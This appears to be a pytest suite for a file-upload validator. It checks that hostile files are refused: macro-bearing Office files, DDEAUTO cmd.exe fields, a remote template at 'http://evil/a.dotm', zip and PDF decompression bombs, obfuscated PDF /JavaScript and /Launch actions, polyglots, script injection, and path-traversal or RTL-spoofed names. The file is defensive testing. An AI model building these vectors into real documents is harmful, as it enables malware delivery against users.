"""Media: what a file is, by content; hostile ones are refused and say why."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import openpyxl
import pytest

from cupral.ledger.errors import InputError
from cupral.ledger.media import MOST_BYTES, MOST_NAME, OFFICE, clean_name, recognised


def packed(**parts: bytes | str) -> bytes:
    """A ZIP file of parts; `__` in a name stands for '/', a final `_x` for '.xml'."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name.replace("__", "/").replace("_x", ".xml"), content)
    return made.getvalue()


def workbook(**more: bytes | str) -> bytes:
    """A real workbook with further parts."""
    made, book = io.BytesIO(), openpyxl.Workbook()
    book.active["A1"] = "铜"
    book.save(made)
    with zipfile.ZipFile(made, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in more.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def docx(types: str = "openxmlformats-officedocument", **more: bytes | str) -> bytes:
    """A text document, as small as one can be."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("[Content_Types].xml", types)
        archive.writestr("word/document.xml", "<document/>")
        for name, content in more.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), content)
    return made.getvalue()


def chunk(kind: bytes, data: bytes) -> bytes:
    """A chunk of a PNG."""
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


PNG = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", b"\0" * 13) + chunk(b"IEND", b"")
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 20 + b"\xff\xd9"


def pdf(*objects: bytes) -> bytes:
    """A PDF of these objects."""
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, o) for n, o in enumerate(objects, start=1))
    return b"%PDF-1.7\n" + body + b"trailer<</Root 1 0 R>>\nstartxref\n0\n%%EOF\n"


def stream(
    content: bytes, described: bytes = b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode"
) -> bytes:
    """A packed object stream."""
    inner = zlib.compress(content)
    return b"<<%s/Length %d>>stream\n%s\nendstream" % (described, len(inner), inner)


PLAIN_PDF = pdf(b"<</Type/Catalog/Pages 2 0 R/OpenAction[2 0 R/Fit]>>")
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"


@pytest.mark.parametrize(
    ("name", "content", "media"),
    [
        ("报告.pdf", PLAIN_PDF, "application/pdf"),
        ("a.PDF", pdf(stream(b"<</Type/Page>>")), "application/pdf"),
        ("a.png", PNG, "image/png"),
        ("a.JPG", JPEG, "image/jpeg"),
        ("a.jpeg", JPEG, "image/jpeg"),
        ("a.xlsx", workbook(), f"{OFFICE}.spreadsheetml.sheet"),
        ("a.docx", docx(), f"{OFFICE}.wordprocessingml.document"),
        ("a.csv", "仪表,数量\nW7,1.5\n".encode(), "text/csv"),
        ("a.csv", b"\xef\xbb\xbfa,b\r\n1,2\r\n", "text/csv"),
        ("a.json", b'{"a": [1, 2]}', "application/json"),
        ("a.txt", "a < b，且 b > c".encode(), "text/plain"),
        ("a.toml", b"[x]\na = 1\n", "text/plain"),
    ],
)
def test_what_is_taken(name: str, content: bytes, media: str) -> None:
    assert recognised(content, name).media == media


HOSTILE: dict[str, tuple[str, bytes | Callable[[], bytes], str]] = {
    "empty": ("a.txt", b"", "is empty"),
    "21 MB": ("a.txt", b"x" * 21_000_000, "at most 20,000,000 are taken"),
    "a program": ("a.pdf", EXE, "of a kind that is not taken; take PDF, PNG"),
    "a program called text": ("a.txt", EXE, "of a kind that is not taken"),
    "NUL": ("a.txt", b"a\x00b", "holds control characters"),
    "Latin-1": ("a.csv", b"caf\xe9", "of a kind"),
    "UTF-16": ("a.csv", "a,b".encode("utf-16"), "of a kind"),
    "HTML": ("a.txt", b"  <HTML><body>", "HTML, SVG and XML are not taken"),
    "a script": ("a.csv", b"a,b\n1,<script>alert(1)</script>", "holds '<script'"),
    "SVG": ("a.svg", b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>", "HTML, SVG and"),
    "XML": ("a.xml", b"<?xml version='1.0'?><a/>", "HTML, SVG and XML"),
    "no JSON": ("a.json", b"{a: 1}", "is no JSON"),
    "deep JSON": ("a.json", b"[" * 100_000 + b"]" * 100_000, "is no JSON"),
    "ZIP": ("a.zip", packed(readme_x="x"), "is a ZIP file; unpack it"),
    "ZIP called XLSX": ("a.xlsx", packed(readme_x="x"), "is a ZIP file"),
    "JAR": ("a.docx", packed(**{"META-INF__MANIFEST.MF": "x"}), "is a ZIP file"),
    "broken ZIP": ("a.xlsx", b"PK\x03\x04" + b"\0" * 50, "is damaged or no document"),
    "macro": ("a.xlsx", workbook(xl__vbaProject_dot_bin=b"x"), "holds macros"),
    "macro in capitals": ("a.docx", docx(word__VBAPROJECT_dot_BIN=b"x"), "holds macros"),
    "macro type": ("a.docx", docx("openxmlformats-officedocument macroEnabled"), "holds macros"),
    "old macro sheet": ("a.xlsx", workbook(xl__macrosheets__s_dot_xml=b"x"), "xl/macrosheets"),
    "control": ("a.docx", docx(word__activeX__activeX1_dot_xml=b"x"), "activex"),
    "inner file": ("a.docx", docx(word__embeddings__a_dot_docx=b"x"), "embeddings"),
    "inner program": ("a.xlsx", workbook(xl__media__a_dot_exe=b"x"), "which can act"),
    "inner object": ("a.xlsx", workbook(xl__embeddings__o_dot_bin=b"x"), "which can act"),
    "links": ("a.xlsx", workbook(xl__externalLinks__l_dot_xml=b"x"), "externallinks"),
    "DDE": ("a.docx", docx(word__footer_dot_xml=b"DDEAUTO c:\\\\cmd.exe"), "starts programs"),
    "entities": ("a.docx", docx(word__x_dot_xml=b"<!DOCTYPE a [<!ENTITY b 'c'>]>"), "XML entities"),
    "remote template": ("a.docx", docx(word___rels__s_dot_rels=(
        b"<Relationship Type='x/attachedTemplate' Target='http://evil/a.dotm' "
        b"TargetMode='External'/>")), "from elsewhere"),
    "path": ("a.docx", docx(**{".." + "__x_dot_xml": b"x"}), "outside of itself"),
    "bomb": ("a.xlsx", lambda: packed(**{
        "[Content_Types]_x": "openxmlformats-officedocument", "xl__workbook_x": b"0" * 90_000_000,
    }), "times its size"),
    "huge bomb": ("a.xlsx", lambda: packed(a_x=b"0" * 150_000_000), "150,000,000 bytes"),
    "many parts": ("a.xlsx", lambda: packed(**{f"a{n}": b"" for n in range(5_001)}), "5001 parts"),
    "behind the document": ("a.docx", docx() + b"MZ", "holds something behind its end"),
    "behind the picture": ("a.png", PNG + b"<script>", "behind the end of the picture"),
    "half a picture": ("a.png", PNG[:20], "is a broken PNG"),
    "behind the photo": ("a.jpg", JPEG + b"payload", "does not end where the picture ends"),
    "photo and page": ("a.jpg", JPEG[:10] + b"<html><script>" + JPEG[10:], "something else"),
    "photo and ZIP": ("a.jpg", JPEG + packed(a_x="x"), "holds a ZIP file"),
    "PDF and ZIP": ("a.pdf", PLAIN_PDF + packed(a_x="x") + b"%%EOF", "holds a ZIP file"),
    "text and PDF": ("a.txt", b"hello\n" + PLAIN_PDF, "is a PDF and something else"),
    "picture and PDF": ("a.png", PNG[:33] + chunk(b"tEXt", PLAIN_PDF) + PNG[33:], "is a PDF and"),
    "ZIP and PDF": ("a.xlsx", packed(**{"%PDF-1.7": "x"}), "is a PDF and something else"),
    "script": ("a.pdf", pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "holds /JavaScript"),
    "hidden script": ("a.pdf", pdf(b"<</S/J#61va#53cript/JS(x)>>"), "holds /JavaScript"),
    "packed script": ("a.pdf", pdf(stream(b"1 0 <</S/JavaScript/JS(x)>>")), "holds /JavaScript"),
    "oddly packed": ("a.pdf", pdf(stream(b"x", b"/Type/Obj#53tm/Filter[/ASCII85Decode]")),
                     "in an unusual way"),
    "far description": ("a.pdf", pdf(stream(b"<</S/JavaScript>>", b"/Type/ObjStm( obj)"
                        + b" " * 5_000)), "holds /JavaScript"),
    "broken stream": ("a.pdf", pdf(b"<</Type/ObjStm>>stream\nxx\nendstream"), "cannot be read"),
    "launch": ("a.pdf", pdf(b"<</S/Launch/F(cmd.exe)>>"), "holds /Launch"),
    "file in PDF": ("a.pdf", pdf(b"<</Type/EmbeddedFile>>"), "holds /EmbeddedFile"),
    "form": ("a.pdf", pdf(b"<</AcroForm<</XFA 3 0 R>>>>"), "holds /XFA"),
    "encrypted": ("a.pdf", pdf(b"<</Encrypt 5 0 R>>"), "holds /Encrypt"),
    "behind the PDF": ("a.pdf", PLAIN_PDF + b"<script>", "does not end as a PDF does"),
    "packed bomb": ("a.pdf", lambda: pdf(stream(b"0" * 120_000_000)), "unpacks to over"),
    "another name": ("a.exe", PNG, r"is image/png by its content, but its name ends in \.exe"),
    "no ending": ("passwd", b"root", "its name ends in nothing; name it .txt"),
    "two endings": ("a.pdf.html", PLAIN_PDF, r"its name ends in \.html"),
}  # fmt: skip


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_files_are_refused(what: str) -> None:
    name, content, told = HOSTILE[what]
    with pytest.raises(InputError, match=told):
        recognised(content() if callable(content) else content, name)


@pytest.mark.parametrize("method", [zipfile.ZIP_BZIP2, zipfile.ZIP_LZMA])
def test_methods_of_packing_that_no_document_uses_are_refused(method: int) -> None:
    """One step of bzip2 unpacks thousands of times its size, whatever the directory says."""
    made = io.BytesIO(docx())
    with zipfile.ZipFile(made, "a", method) as archive:
        archive.writestr("word/more.xml", "x" * 1000)
    with pytest.raises(InputError, match="packed in an unusual way"):
        recognised(made.getvalue(), "a.docx")


def test_the_largest_file_is_taken() -> None:
    assert recognised(b"x" * MOST_BYTES, "a.txt").media == "text/plain"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../etc/passwd.txt", "passwd.txt"), ("..\\..\\a.txt", "a.txt"), ("/abs/a.txt", "a.txt"),
        ("C:\\x\\a.txt", "a.txt"), ("a\x00b\n.txt", "ab.txt"), ("evil\u202etxt.exe", "eviltxt.exe"),
        ("\u2066a\u2069.txt", "a.txt"), ("zero\u200bwidth.txt", "zerowidth.txt"),
        (" .hidden. ", "hidden"), ('a"b;c.txt', "a b c.txt"), ("电解  铝.pdf", "电解 铝.pdf"),
        ("a%2fb.txt", "a%2fb.txt"), ("cafe\u0301.txt", "café.txt"),
    ],
)  # fmt: skip
def test_names_lose_what_misleads(given: str, kept: str) -> None:
    assert clean_name(given) == kept


def test_long_names_keep_their_ending() -> None:
    kept = clean_name("长" * 500 + ".pdf")
    assert (len(kept), kept[-5:]) == (MOST_NAME, "长.pdf")
    assert len(clean_name("x" * 500)) == MOST_NAME


@pytest.mark.parametrize("name", ["", "...", "\u202e\u200b", "a/", "\x00"])
def test_a_name_needs_a_character(name: str) -> None:
    with pytest.raises(InputError, match="no readable character; name it anew"):
        clean_name(name)
